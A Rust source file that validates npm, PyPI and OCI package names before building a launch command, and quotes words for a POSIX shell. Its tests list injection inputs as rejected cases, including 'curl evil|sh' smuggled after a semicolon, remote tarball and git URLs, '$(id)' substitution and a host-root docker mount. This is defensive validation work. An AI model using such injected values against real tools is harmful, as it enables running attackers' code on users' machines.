//! What starts a package, as words that mean nothing else.
//!
//! Names come from anybody: what is shown to be copied into a shell, or written into a configuration, must
//! start the package of that name from its registry, and do nothing else.

use std::borrow::Cow;
use std::fmt::Write;

use audit::visible;

/// The words that start a package; `None` where its name is no name of a package of the registry, as
/// `https://…` and `git+https://…` are, which would fetch code from elsewhere.
#[must_use]
pub fn command(registry: Option<&str>, package: &str) -> Option<Vec<String>> {
    let (before, good): (&[&str], bool) = match registry? {
        "npm" => (&["npx", "-y"], is_npm(package)),
        "pypi" => (&["uvx"], is_pypi(package)),
        "oci" => (&["docker", "run", "-i", "--rm"], is_image(package)),
        _ => return None,
    };
    good.then(|| before.iter().copied().chain([package]).map(str::to_owned).collect())
}

/// A word as a POSIX shell reads it as one. What a reader cannot see is written out, so that it can be copied.
#[must_use]
pub fn shell(word: &str) -> Cow<'_, str> {
    let plain = |c: char| c.is_ascii_alphanumeric() || matches!(c, '-' | '_' | '.' | '/' | ':' | '@' | '+' | ',' | '%');
    if !word.is_empty() && word.chars().all(plain) {
        return word.into();
    }
    // Some shells read a backslash as more than that, some do not: only printf is the same in all.
    if word.chars().all(|c| visible::is_plain(c) && c != '\\') {
        return format!("'{}'", word.replace('\'', "'\"'\"'")).into();
    }
    let mut octal = String::from("\"$(printf '");
    for (at, c) in word.chars().enumerate() {
        match c {
            '%' => octal.push_str("%%"),
            '-' if at == 0 => octal.push_str("\\055"),
            _ if visible::is_plain(c) && !matches!(c, '\\' | '\'') => octal.push(c),
            _ => c.encode_utf8(&mut [0; 4]).bytes().for_each(|byte| {
                let _ = write!(octal, "\\{byte:03o}");
            }),
        }
    }
    (octal + "')\"").into()
}

/// Letters, digits and what stands between them.
fn is_word(part: &str, between: &[char]) -> bool {
    part.starts_with(|c: char| c.is_ascii_alphanumeric())
        && part.chars().all(|c| c.is_ascii_alphanumeric() || between.contains(&c))
}

/// `name`, `@scope/name`, either with a version behind `@`.
fn is_npm(package: &str) -> bool {
    let (scope, rest) = match package.strip_prefix('@').map(|scoped| scoped.split_once('/')) {
        Some(Some((scope, rest))) => (Some(scope), rest),
        Some(None) => return false,
        None => (None, package),
    };
    let (name, version) = rest.split_once('@').map_or((rest, None), |(name, version)| (name, Some(version)));
    let part = |part: &str| is_word(part, &['-', '_', '.', '~']);
    scope.is_none_or(part) && part(name) && version.is_none_or(|version| is_word(version, &['-', '.', '+']))
}

/// `name`, with extras in brackets and a version behind `==` or `@`.
fn is_pypi(package: &str) -> bool {
    let at = package.find("==").map(|at| (at, at + 2)).or_else(|| package.find('@').map(|at| (at, at + 1)));
    let (name, version) = match at {
        Some((end, begin)) => (package.get(..end).unwrap_or_default(), package.get(begin..)),
        None => (package, None),
    };
    let (name, extras) = match name.split_once('[') {
        Some((name, extras)) => (name, extras.strip_suffix(']').map(|extras| extras.split(',').collect())),
        None => (name, Some(Vec::new())),
    };
    let part = |part: &str| is_word(part, &['-', '_', '.']);
    part(name)
        && extras.is_some_and(|extras: Vec<&str>| extras.into_iter().all(part))
        && version.is_none_or(|version| is_word(version, &['-', '.', '+', '!']))
}

/// `host:port/path/name:tag@sha256:digest`, as far as it is there.
fn is_image(package: &str) -> bool {
    package.split('/').all(|part| is_word(part, &['-', '_', '.', ':', '@']))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_of_packages_and_nothing_else() {
        for (registry, package, good) in [
            ("npm", "leads", true),
            ("npm", "@acme/leads@1.2.3-rc.1", true),
            ("npm", "https://evil.example/x.tgz", false),
            ("npm", "good; curl evil|sh #", false),
            ("npm", "--package=evil", false),
            ("npm", "../../local", false),
            ("npm", "owner/repository", false),
            ("npm", "github:owner/repository", false),
            ("npm", "x@https://evil.example/x.tgz", false),
            ("npm", "@acme", false),
            ("npm", "", false),
            ("pypi", "mcp-server-git", true),
            ("pypi", "tools[cli,http]==1.0.post1", true),
            ("pypi", "tools@1.2", true),
            ("pypi", "git+https://evil.example/x", false),
            ("pypi", "x@git+https://evil.example/x", false),
            ("pypi", "$(id)`id`", false),
            ("pypi", "x[", false),
            ("oci", "ghcr.io/acme/leads:1@sha256:00ff", true),
            ("oci", "-v/:/host acme", false),
            ("smithery", "leads", false),
        ] {
            assert_eq!(command(Some(registry), package).is_some(), good, "{registry} {package}");
        }
    }

    #[test]
    fn one_word_for_a_shell() {
        for (word, quoted) in [
            ("https://x.example/mcp", "https://x.example/mcp"),
            ("https://x.example/mcp?a=1&b=2", "'https://x.example/mcp?a=1&b=2'"),
            ("get a|id", "'get a|id'"),
            ("it's", "'it'\"'\"'s'"),
            ("", "''"),
            ("~", "'~'"),
            (r"a\b's 5%", r#""$(printf 'a\134b\047s 5%%')""#),
            ("-\u{200b}\n", r#""$(printf '\055\342\200\213\012')""#),
        ] {
            assert_eq!(shell(word), quoted);
        }
    }
}
